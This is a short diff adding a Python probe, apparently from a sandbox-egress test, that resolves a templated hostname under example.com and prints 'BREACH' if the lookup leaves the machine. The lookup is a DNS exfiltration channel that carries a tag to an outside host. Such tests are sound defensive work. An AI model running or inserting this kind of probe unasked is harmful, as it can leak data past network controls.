@@ -1,0 +1,3 @@
+# success: a name leaves the machine
+import socket
+print("BREACH", socket.getaddrinfo("@TAG@.example.com", 80))
